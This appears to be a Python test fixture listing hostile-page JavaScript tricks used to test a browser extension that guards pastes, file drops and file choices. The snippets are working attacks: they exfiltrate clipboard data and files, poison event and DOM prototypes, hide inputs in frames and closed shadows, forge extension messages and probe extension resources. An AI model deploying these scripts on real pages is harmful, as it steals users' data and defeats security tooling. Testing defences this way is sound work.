"""What a hostile page tries, as a table: the script that it runs, and what its user then does on it."""

from __future__ import annotations

from dataclasses import dataclass
from enum import StrEnum

LEAK = """
  window.home = `${location.origin}/`;
  window.leak = (text) => fetch(home, {method: "POST", body: JSON.stringify({kind: "leak", text: String(text)})});
  window.leakFiles = async (files) => { for (const file of files ?? []) leak(await file.text()); };
  window.leakAll = (transfer) => { leak(transfer.getData("text/plain") + transfer.getData("text/html"));
    leakFiles(transfer.files); };
"""
"""What every trick may use: it sends what it found to the server."""


PREPARED = """
  window.heard = [];
  window.told = [];
  window.other = open("/desk", "prepared");
  for (const place of [other, other.document])
    for (const type of ["connect", "load"])
      place.addEventListener(type, (event) => { if (!event.isTrusted) heard.push(type); }, true);
  const add = other.EventTarget.prototype.addEventListener;
  other.EventTarget.prototype.addEventListener = function (type, ...all) {
    if (type === "begin") {
      window.link = this;
    }
    return add.call(this, type, ...all);
  };
"""
"""What takes, in a window that is prepared before its page is loaded, the node by which the extension's scripts speak.
"""

FORGED = """
  const given = new DataTransfer();
  const file = new File(["x"], "a.txt");
  given.items.add(file);
  const box = Object.assign(document.createElement("input"), {type: "file", files: given.files});
  for (const type of ["passed", "refused"]) box.addEventListener(type, () => told.push(type));
  link.addEventListener("answer", (event) => told.push(event.detail.pass ? "passed" : "nothing"));
  link.dispatchEvent(new other.MouseEvent("judge", {relatedTarget: box, detail: 1}));
  for (const kind of ["picked", "read"])
    link.dispatchEvent(new other.CustomEvent(kind, {detail: {number: 1, handles: [file]}}));
"""
"""Asks by that node whether the page may have a file that it made itself."""


class By(StrEnum):
    """What the user does: each with a text or a file that is held."""

    PASTE = "paste"
    DROP = "drop"
    CHOICE = "choice"
    NOTHING = "nothing"


@dataclass(frozen=True, slots=True)
class Trick:
    """``where`` is the element that gets it, as a script for a paste or a choice and as a selector for a drop."""

    name: str
    by: By
    script: str
    where: str = ""


_ANYWHERE = """for (const type of ["paste", "beforeinput", "input", "drop", "change", "textInput"])
  for (const place of [window, document, document.body])
    place.addEventListener(type, (event) => {
      const transfer = event.clipboardData ?? event.dataTransfer;
      if (transfer) leakAll(transfer);
      if (typeof event.data === "string") leak(event.data);
      if (event.target.files) leakFiles(event.target.files);
    }, true);"""

_OWN = """const own = new DataTransfer(); own.setData("text/plain", "页面自己的");
  own.items.add(new File(["页面自己的"], "a.txt"));"""

PAGE_TRICKS = (
    # ---------------------------------------------------------------- a text that its user pastes
    Trick("listens everywhere before anybody", By.PASTE, _ANYWHERE, "area"),
    Trick("lets nobody stop an event", By.PASTE,
          "Event.prototype.stopImmediatePropagation = Event.prototype.preventDefault = () => {};" + _ANYWHERE, "area"),
    Trick("hides from everybody what is pasted", By.PASTE, """
      const get = DataTransfer.prototype.getData;
      DataTransfer.prototype.getData = function (type) { leak(get.call(this, type)); return ""; };
      Object.defineProperty(ClipboardEvent.prototype, "clipboardData", {get: () => null});
      """ + _ANYWHERE, "chat"),
    Trick("spoils what all objects inherit", By.PASTE, """
      for (const [name, value] of [["refused", false], ["judged", false], ["whole", true], ["kind", "site"]])
        Object.defineProperty(Object.prototype, name, {get: () => value, set: () => {}, configurable: true});
      Array.prototype[Symbol.iterator] = function* () {};
      Promise.prototype.then = function () { return this; };""", "area"),
    Trick("takes the listeners of others away", By.PASTE, """
      EventTarget.prototype.addEventListener = () => {};
      window.onpaste = document.onpaste = (event) => leakAll(event.clipboardData);""", "area"),
    Trick("pastes by itself while its user does", By.PASTE, """
      setInterval(() => { area.focus(); if (document.execCommand("paste")) leak(area.value); }, 5);""", "area"),
    Trick("replaces what edits", By.PASTE, """
      Document.prototype.execCommand = (...all) => leak(JSON.stringify(all));
      Element.prototype.setHTML = (html) => leak(html);
      Object.defineProperty(HTMLTextAreaElement.prototype, "value", {set: leak, get: () => ""});""", "area"),
    Trick("watches whatever changes", By.PASTE, """
      new MutationObserver(() => leak(document.documentElement.outerHTML)).observe(document,
        {childList: true, subtree: true, attributes: true, characterData: true});
      document.addEventListener("selectionchange", () => leak(area.value + chat.innerText));""", "chat"),
    Trick("is editable as a whole", By.PASTE, "document.designMode = 'on';" + _ANYWHERE, "document.body"),
    Trick("makes a frame at the last moment", By.PASTE, """
      const late = document.body.appendChild(document.createElement("iframe"));
      late.contentDocument.body.innerHTML = "<textarea></textarea>";
      window.lateBox = late.contentDocument.querySelector("textarea");
      for (const place of [late.contentWindow, late.contentDocument])
        place.addEventListener("paste", (event) => leakAll(event.clipboardData), true);""", "lateBox"),
    Trick("goes into a frame within twelve frames", By.PASTE, """
      let within = document;
      for (let depth = 0; depth < 12; depth += 1) {
        const frame = within.body.appendChild(within.createElement("iframe"));
        within = frame.contentDocument;
      }
      within.body.innerHTML = "<textarea></textarea>";
      window.deepBox = within.querySelector("textarea");
      within.defaultView.addEventListener("paste", (event) => leakAll(event.clipboardData), true);""", "deepBox"),
    Trick("goes into a frame of a script's address", By.PASTE, """
      const scripted = document.body.appendChild(document.createElement("iframe"));
      scripted.src = "javascript:'<textarea></textarea>'";
      scripted.onload = () => {
        window.scriptedBox = scripted.contentDocument.querySelector("textarea");
        scripted.contentWindow.addEventListener("paste", (event) => leakAll(event.clipboardData), true);
      };""", "window.scriptedBox"),
    Trick("calls itself an office page", By.PASTE, """
      history.pushState({}, "", "/oa.example.gov.cn/");
      document.title = "待办 - 青河县OA";
      document.head.appendChild(Object.assign(document.createElement("base"), {href: "http://oa.example.gov.cn/"}));
      window.name = "http://oa.example.gov.cn";""", "area"),
    Trick("sends thousands of events first", By.PASTE, _OWN + """
      for (let number = 0; number < 2000; number += 1) {
        if (number % 10 === 0) chat.dispatchEvent(new ClipboardEvent("paste", {clipboardData: own, bubbles: true}));
        (number % 2 ? area : chat).focus();
        inner.contentDocument.body.firstChild.focus();
      }""", "area"),
    # ---------------------------------------------------------------- a file that its user drops
    Trick("looks while it is dragged", By.DROP, """
      for (const type of ["dragenter", "dragover", "drop", "dragleave"])
        addEventListener(type, (event) => { event.preventDefault(); leakAll(event.dataTransfer);
          for (const item of event.dataTransfer.items) {
            leakFiles([item.getAsFile()].filter(Boolean));
            item.webkitGetAsEntry?.()?.file?.((file) => leakFiles([file]));
            item.getAsFileSystemHandle?.().then((handle) => handle.getFile()).then((file) => leakFiles([file]),
              () => {});
          } }, true);""", "#zone"),
    Trick("has a chooser over the zone and polls it", By.DROP,
          "setInterval(() => leakFiles(file.files), 1);" + _ANYWHERE, "#file"),
    Trick("lets the browser open what is dropped", By.DROP, "zone.ondrop = null;" + _ANYWHERE, "#words"),
    Trick("drops it into an editor", By.DROP, _ANYWHERE, "#chat"),
    # ---------------------------------------------------------------- a file that its user chooses
    Trick("polls its chooser as fast as it can", By.CHOICE, """
      const {port1, port2} = new MessageChannel();
      port1.onmessage = () => { if (file.files.length) leakFiles(file.files); else port2.postMessage(0); };
      port2.postMessage(0);""", "file"),
    Trick("replaces the files of all choosers", By.CHOICE, """
      const {get} = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "files");
      Object.defineProperty(HTMLInputElement.prototype, "files", {get() { const found = get.call(this);
        leakFiles(found); return found; }, set() {}});
      Object.defineProperty(HTMLInputElement.prototype, "value", {get: () => "", set() {}});
      setInterval(() => file.files, 1);""", "file"),
    Trick("sends its form all the time", By.CHOICE, """
      const form = document.body.appendChild(document.createElement("form"));
      form.append(file);
      file.name = "upload";
      setInterval(() => leakFiles(new FormData(form).getAll("upload")), 1);""", "file"),
    Trick("chooses in a frame made at the last moment", By.CHOICE, """
      const chooser = document.body.appendChild(document.createElement("iframe"));
      chooser.contentDocument.body.innerHTML = "<input type=file>";
      window.lateFile = chooser.contentDocument.querySelector("input");
      for (const type of ["input", "change"])
        chooser.contentWindow.addEventListener(type, (event) => leakFiles(event.target.files), true);
      setInterval(() => leakFiles(lateFile.files), 1);""", "lateFile"),
    Trick("moves its chooser into a closed shadow", By.CHOICE, """
      const closed = zone.attachShadow({mode: "closed"});
      window.unseen = file;
      closed.append(unseen);
      for (const type of ["input", "change"]) closed.addEventListener(type, () => leakFiles(unseen.files), true);
      setInterval(() => leakFiles(unseen.files), 1);""", "unseen"),
    # ---------------------------------------------------------------- without its user
    Trick("makes a paste, a drop and a choice", By.NOTHING, _OWN + """
      chat.dispatchEvent(new ClipboardEvent("paste", {clipboardData: own, bubbles: true, cancelable: true}));
      zone.dispatchEvent(new DragEvent("drop", {dataTransfer: own, bubbles: true, cancelable: true}));
      area.dispatchEvent(new InputEvent("beforeinput", {inputType: "insertFromPaste", data: "x", bubbles: true}));
      file.files = own.files;
      file.dispatchEvent(new Event("change", {bubbles: true}));"""),
    Trick("uploads a file that it fetched", By.NOTHING, """
      fetch("/inside").then((answer) => answer.blob()).then((blob) => {
        const given = new DataTransfer(); given.items.add(new File([blob], "讨论稿.txt"));
        file.files = given.files; file.dispatchEvent(new Event("change", {bubbles: true}));
        leak(URL.createObjectURL(blob)); });"""),
    Trick("gives huge names", By.NOTHING, """
      const huge = new DataTransfer();
      huge.items.add(new File(["x"], "长".repeat(3000000), {type: "y".repeat(100000)}));
      file.files = huge.files; file.dispatchEvent(new Event("change", {bubbles: true}));
      zone.dispatchEvent(new DragEvent("drop", {dataTransfer: huge, bubbles: true}));"""),
    Trick("speaks to whoever listens", By.NOTHING, """
      for (const kind of ["site", "judge", "upload", "piece", "drop", "here", "away"]) {
        const said = {kind, text: "x", html: "", files: [], upload: 1, whole: true};
        postMessage(said, "*"); parent.postMessage(said, "*"); new BroadcastChannel(kind).postMessage(said);
        for (const place of [window, document, document.documentElement])
          place.dispatchEvent(new CustomEvent(kind, {detail: said}));
      }
      for (const type of ["focus", "blur", "pagehide"]) dispatchEvent(new Event(type));
      addEventListener("message", (event) => { if (event.data.refused !== undefined) leak("answered"); });"""),
    Trick("asks the extension", By.NOTHING, """
      if (typeof chrome !== "undefined" && chrome.runtime?.sendMessage)
        chrome.runtime.sendMessage("EXTENSION", {kind: "site"}, () => leak("answered"));
      for (const name of ["manifest.json", "content.js", "focus.js", "background.js"]) {
        const address = `chrome-extension://EXTENSION/${name}`;
        fetch(address).then(() => leak("answered"), () => {});
        import(address).then(() => leak("answered"), () => {});
        for (const [tag, key] of [["img", "src"], ["script", "src"], ["link", "href"]]) {
          const asked = Object.assign(document.createElement(tag), {[key]: address, rel: "stylesheet"});
          asked.onload = () => leak("answered");
          document.body.append(asked);
        }
      }"""),
    Trick("asks from a worker", By.NOTHING, """
      const code = `fetch("chrome-extension://EXTENSION/content.js").then(() => postMessage("answered"), () => {});
        postMessage(String(typeof chrome !== "undefined" && chrome.runtime !== undefined));`;
      new Worker(URL.createObjectURL(new Blob([code]))).onmessage = (event) => {
        if (event.data !== "false") leak("answered"); };"""),
    Trick("reads the clipboard without its user", By.NOTHING, """
      navigator.clipboard?.readText().then(leak, () => {});
      area.focus();
      if (document.execCommand("paste")) leak(area.value);"""),
)
"""The words of each test's name say what the page does."""
